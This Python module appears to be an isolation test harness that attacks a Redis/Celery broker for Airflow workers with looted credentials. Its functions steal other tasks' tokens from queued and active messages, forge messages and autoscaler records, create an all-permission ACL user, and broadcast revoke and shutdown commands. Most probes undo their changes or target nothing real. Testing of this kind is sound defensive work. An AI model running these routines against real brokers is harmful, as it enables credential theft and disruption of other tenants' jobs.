"""Attacks on the broker with the best credential that a task can find, by class of command."""

from __future__ import annotations

import contextlib
import json
import os
import time
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import redis

from mallory_attacks import loot
from mallory_attacks.attack import Facts, Refused, attack, wrecking

POOL, QUEUE, OTHER_QUEUE = "worker", "default", "elsewhere"
FAR_FUTURE = 4e9
REPLY_S = 5.0


@contextlib.contextmanager
def _client(facts: Facts) -> Iterator[Any]:
    """Sign in as whom the found address names."""
    password = loot.best("broker_password", facts)
    user = _user(facts, password)
    host, port = facts.broker
    client: Any = redis.Redis(
        host=host, port=port, username=user or None, password=password, ssl=True, socket_timeout=REPLY_S
    )
    with client:
        client.ping()
        yield client


def _user(facts: Facts, password: str) -> str:
    for name, value in os.environ.items():
        match = loot.URL.search(f"{name}={value}".encode())
        if match and match[2].decode() in (password, quote(password, safe="")):
            return match[1].decode()
    return ""


@attack
def broker_without_a_credential(facts: Facts) -> str:
    """Send commands to the broker without signing in."""
    host, port = facts.broker
    with contextlib.closing(redis.Redis(host=host, port=port, ssl=True, socket_timeout=REPLY_S)) as client:
        return f"{client.dbsize()} keys"


@attack
def broker_sign_in(facts: Facts) -> str:
    """Sign in to the broker."""
    with _client(facts) as client:
        return f"answered PING as user {client.execute_command('ACL', 'WHOAMI').decode()}"


@attack
def broker_list_keys(facts: Facts) -> str:
    """List the broker's keys."""
    with _client(facts) as client:
        return f"{len(client.keys('*'))} keys"


@attack
def broker_tokens_of_running_tasks(facts: Facts) -> str:
    """Read the tokens of other tasks from messages that were delivered and not acknowledged."""
    with _client(facts) as client:
        found = set(loot.tokens_in(b"\n".join(_bodies(client.hvals("unacked"))))) - {facts.own["id"]}
    if not found:
        raise Refused("no token of another task in unacked messages")
    return f"{len(found)} tokens"


@attack
def broker_tokens_of_another_queue(facts: Facts) -> str:
    """Read the token of a task that waits in another pool's queue."""
    found = token_of_waiting_task(facts)
    return f"a token of {len(found)} characters"


def token_of_waiting_task(facts: Facts) -> str:
    """Return the token of the victim's waiting task, from another queue."""
    with _client(facts) as client:
        found = loot.tokens_in(b"\n".join(_bodies(client.lrange(OTHER_QUEUE, 0, -1))))
    if facts.victim["never"] not in found:
        raise Refused("the message was not there")
    return found[facts.victim["never"]]


def _bodies(messages: list[bytes]) -> Iterator[bytes]:
    """Decode the bodies of kombu's messages, which are base64 of JSON."""
    import base64

    for raw in messages:
        with contextlib.suppress(ValueError, TypeError, KeyError):
            message = json.loads(raw)
            message = message[0] if isinstance(message, list) else message
            yield base64.b64decode(message["body"]).replace(b'\\"', b'"')


def _message(task_id: str) -> str:
    """Compose a message in kombu's form, for a task that Celery does not know."""
    import base64

    body = base64.b64encode(json.dumps([[], {}, {}]).encode()).decode()
    properties = {"delivery_mode": 2, "delivery_info": {"exchange": "", "routing_key": QUEUE}, "priority": 0}
    properties |= {"body_encoding": "base64", "delivery_tag": task_id, "correlation_id": task_id}
    headers = {"lang": "py", "task": "mallory.unknown", "id": task_id, "root_id": task_id, "parent_id": None}
    message = {"body": body, "content-encoding": "utf-8", "content-type": "application/json", "headers": headers}
    return json.dumps({**message, "properties": properties})


@attack
def broker_message_to_another_queue(facts: Facts) -> str:
    """Publish a forged message in another pool's queue."""
    with _client(facts) as client:
        forged = _message(str(uuid.uuid4()))
        length = client.lpush(OTHER_QUEUE, forged)
        client.lrem(OTHER_QUEUE, 1, forged)
    return f"the queue had {length} messages then"


@attack
def broker_message_to_its_own_queue(facts: Facts) -> str:
    """Publish a forged message in its own pool's queue."""
    with _client(facts) as client:
        length = client.lpush(QUEUE, _message(str(uuid.uuid4())))
    return f"the queue had {length} messages then"


@wrecking
def broker_take_messages_of_another_queue(facts: Facts) -> str:
    """Take a message from another pool's queue, so that its task never runs."""
    with _client(facts) as client:
        taken = client.rpop(OTHER_QUEUE)
        if taken is None:
            raise Refused("the queue was empty")
        client.rpush(OTHER_QUEUE, taken)
    return f"took and returned a message of {len(taken)} bytes"


def _member(facts: Facts, number: int) -> tuple[str, str]:
    """Compose the record of an idle worker that does not exist."""
    name = f"{uuid.UUID(int=number).hex}/worker"
    record = {
        "version": 1,
        "id": name,
        "role": "worker",
        "pool": POOL,
        "image_version": "1",
        "dags_hash": "1",
        "airflow_version": "1",
        "state": "consuming",
        "slots": 4,
        "active": 0,
        "protected": False,
        "started_at": time.time() - 60,
        "task_arn": f"arn:aws:ecs:us-east-1:123456789012:task/{facts.cluster}/{uuid.UUID(int=number).hex}",
        "container": "worker",
        "queues": [QUEUE],
    }
    return name, json.dumps(record)


@wrecking
def broker_member_of_the_far_future(facts: Facts) -> str:
    """Register a member that was last seen in the year 2096, which stops scale-in."""
    with _client(facts) as client:
        name, record = _member(facts, 1)
        client.set(f"fleet:member:{name}", record)
        added = client.zadd("fleet:members", {name: FAR_FUTURE})
        client.zrem("fleet:members", name)
        client.delete(f"fleet:member:{name}")
    return f"{added} member added"


@wrecking
def broker_hundred_idle_members(facts: Facts) -> str:
    """Register 100 idle workers, which stop scale-out."""
    with _client(facts) as client:
        members = dict(_member(facts, number) for number in range(2, 102))
        for name, record in members.items():
            client.set(f"fleet:member:{name}", record, ex=60)
        added = client.zadd("fleet:members", dict.fromkeys(members, time.time()))
        client.zrem("fleet:members", *members)
        client.delete(*(f"fleet:member:{name}" for name in members))
    return f"{added} members added"


@wrecking
def broker_unregister_another_member(facts: Facts) -> str:
    """Unregister a member that is not its own worker."""
    with _client(facts) as client:
        others = {n: s for n, s in client.zrange("fleet:members", 0, -1, withscores=True) if not n.endswith(b"/worker")}
        name, seen = next(iter(others.items()))
        removed = client.zrem("fleet:members", name)
        client.zadd("fleet:members", {name: seen})
    return f"{removed} member removed and restored"


@wrecking
def broker_order(facts: Facts) -> str:
    """Order a worker that does not exist to drain."""
    return _set_and_delete(facts, f"fleet:order:{uuid.UUID(int=1).hex}/worker", "drain")


@wrecking
def broker_decision(facts: Facts) -> str:
    """Forge a decision of the autoscaler."""
    with _client(facts) as client:
        length = client.lpush("fleet:decisions:mallory", "{}")
        client.delete("fleet:decisions:mallory")
    return f"{length} decisions of a pool"


@wrecking
def broker_forecast(facts: Facts) -> str:
    """Forge a forecast, which raises the desired count."""
    return _set_and_delete(facts, "fleet:forecast:mallory", json.dumps([[int(time.time()) + 5, 1_000_000]]))


@wrecking
def broker_memory_of_the_autoscaler(facts: Facts) -> str:
    """Replace the autoscaler's memory."""
    return _set_and_delete(facts, "fleet:scaler:mallory", "{}")


@wrecking
def broker_memory_of_the_version_check(facts: Facts) -> str:
    """Write into the version check's memory."""
    return _set_and_delete(facts, "fleet:versions:mallory", "{}")


def _set_and_delete(facts: Facts, key: str, value: str) -> str:
    with _client(facts) as client:
        client.set(key, value, ex=30)
        client.delete(key)
    return f"SET {key.split('/')[0]}"


@attack
def broker_history(facts: Facts) -> str:
    """Write into a pool's history, which the Fleet page draws."""
    with _client(facts) as client:
        client.hset("fleet:history:mallory", "0", "0")
        client.delete("fleet:history:mallory")
    return "HSET history"


@attack
def broker_configuration(facts: Facts) -> str:
    """Change the broker's configuration."""
    with _client(facts) as client:
        before = client.config_get("maxclients")
        client.config_set("maxclients", before["maxclients"])
    return "CONFIG SET"


@attack
def broker_users(facts: Facts) -> str:
    """Make a user of its own in the broker."""
    with _client(facts) as client:
        client.execute_command("ACL", "SETUSER", "mallory", "on", "nopass", "~*", "&*", "+@all")
        client.execute_command("ACL", "DELUSER", "mallory")
    return "ACL SETUSER"


@attack
def broker_events(facts: Facts) -> str:
    """Subscribe to Celery's events, in which arguments of tasks may be."""
    with _client(facts) as client, client.pubsub() as listener:
        listener.psubscribe("*")
        answer = listener.get_message(timeout=REPLY_S)
    if not answer or answer["type"] != "psubscribe":
        raise Refused("no answer")
    return "subscribed to every channel"


@attack
def broker_script(facts: Facts) -> str:
    """Run a script in the broker that reads any key."""
    with _client(facts) as client:
        found = client.eval("return #redis.call('KEYS', '*')", 0)
    return f"{found} keys"


@attack
def broker_connections_of_others(facts: Facts) -> str:
    """List the broker's connections, which could be cut."""
    with _client(facts) as client:
        return f"{len(client.client_list())} connections"


@attack
def broker_monitor(facts: Facts) -> str:
    """Watch every command that the broker gets."""
    with _client(facts) as client, client.monitor() as watched:
        watched.connection.send_command("PING")
        return f"MONITOR, then {len(str(watched.next_command()))} characters"


def _own_app() -> Any:
    from airflow.providers.celery.executors.celery_executor import app

    return app


def _control(facts: Facts) -> Any:
    """Return Celery's remote control: of the present configuration, or of the found credential."""
    app = _own_app()
    password = loot.best("broker_password", facts)
    host, port = facts.broker
    user = _user(facts, password)
    app.conf.broker_url = f"rediss://{user}:{quote(password, safe='')}@{host}:{port}/0?ssl_cert_reqs=required"
    return app.control


@attack
def celery_ping_as_configured(facts: Facts) -> str:
    """Ping all workers through Celery's app as this process is configured."""
    answers = _own_app().control.ping(timeout=3)
    if not answers:
        raise Refused("no worker answered")
    return f"{len(answers)} workers answered"


@attack
def celery_ping(facts: Facts) -> str:
    """Ping all workers through Celery's remote control."""
    answers = _control(facts).ping(timeout=3)
    if not answers:
        raise Refused("no worker answered")
    return f"{len(answers)} workers answered"


@attack
def celery_active_tasks(facts: Facts) -> str:
    """Ask all workers for the arguments of their tasks, in which tokens are."""
    answers = _control(facts).inspect(timeout=3).active() or {}
    found = set(loot.tokens_in(json.dumps(answers).replace('\\"', '"').encode())) - {facts.own["id"]}
    if not answers:
        raise Refused("no worker answered")
    return f"{sum(map(len, answers.values()))} tasks, {len(found)} tokens of others"


@wrecking
def celery_revoke(facts: Facts) -> str:
    """Have all workers revoke a task, with an id that no task has."""
    answers = _control(facts).revoke(str(uuid.uuid4()), terminate=True, reply=True, timeout=3)
    if not answers:
        raise Refused("no worker answered")
    return f"{len(answers)} workers revoked it"


@wrecking
def celery_rate_limit(facts: Facts) -> str:
    """Have all workers limit the rate of a task that does not exist."""
    answers = _control(facts).rate_limit("mallory.unknown", "1/h", reply=True, timeout=3)
    if not answers:
        raise Refused("no worker answered")
    return f"{len(answers)} workers answered"


@wrecking
def celery_shutdown(facts: Facts) -> str:
    """Tell a worker to shut down, one that does not exist: an empty list of names would end all of them."""
    _control(facts).broadcast("shutdown", destination=["nobody@nowhere"])
    return "sent"


@wrecking
def broker_planted_result(facts: Facts) -> str:
    """Plant the result of another task where Celery's Redis backend would look for it."""
    key = f"celery-task-meta-{uuid.UUID(int=1)}"
    return _set_and_delete(facts, key, json.dumps({"status": "FAILURE", "result": {"exc_type": "SystemExit"}}))


@wrecking
def broker_flush(facts: Facts) -> str:
    """Delete all keys of an empty database of the broker, with the command that would delete all messages."""
    with _client(facts) as client:
        client.execute_command("SELECT", 15)
        client.flushdb()
    return "FLUSHDB"
